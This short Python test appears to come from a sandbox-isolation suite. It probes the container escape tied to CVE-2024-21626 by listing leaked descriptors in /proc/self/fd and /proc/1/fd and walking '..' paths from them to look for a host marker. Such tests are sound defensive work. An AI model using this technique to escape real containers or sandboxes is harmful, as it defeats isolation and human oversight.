"""Reach the host through a directory that a descriptor was left open to."""

import os

from tests.attacks.attack import find_marker

FENCE = "descriptors closed at start"
SOURCE = "CVE-2024-21626"

descriptors = [f"/proc/{pid}/fd" for pid in ("self", "1")]
roots = ["/"]
for directory in descriptors:
    try:
        roots += [f"{directory}/{number}" for number in os.listdir(directory)]
    except OSError:
        continue
find_marker([f"{root}{up}" for root in roots for up in ("", "/..", "/../../..")])
